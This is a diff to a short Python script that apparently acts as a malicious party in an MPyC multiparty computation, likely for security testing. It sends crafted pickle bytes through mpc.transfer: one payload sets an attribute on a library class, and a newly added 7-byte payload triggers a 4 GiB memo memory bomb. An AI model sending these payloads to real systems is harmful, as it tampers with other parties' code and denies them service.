@@ -1,8 +1,11 @@
 """A co-party whose message BUILDs on a class: the last party's
 mpc.transfer carries a pickle that names the field's array class
 (ArrayGF(101), allowed as an MPyC type) and sets an attribute on it. The
-others receive it; then an ordinary secure sum, as an honest program goes on."""
+others receive it; then an ordinary secure sum, as an honest program goes on.
+With --memo, the pickle is 7 bytes that ask for a memo of 2**28 entries
+(4 GiB): the bomb only a party's memory limit stops."""
 import pickle
+import sys
 
 from mpyc.runtime import mpc
 
@@ -11,6 +14,8 @@ ARRAY = type(field.array([1]))
 # GLOBAL mpyc.finfields ArrayGF(101); BUILD (None, {'planted': 1}); STOP: a class object, its attribute set
 CRAFTED = (b"\x80\x02c" + b"mpyc.finfields\n" + ARRAY.__name__.encode() + b"\n"
            + b"N}X\x07\x00\x00\x00plantedK\x01s\x86b.")
+if "--memo" in sys.argv:  # NONE; LONG_BINPUT 2**28; STOP
+    CRAFTED = b"\x80\x02Nr" + (1 << 28).to_bytes(4, "little") + b"."
 
 
 async def main():
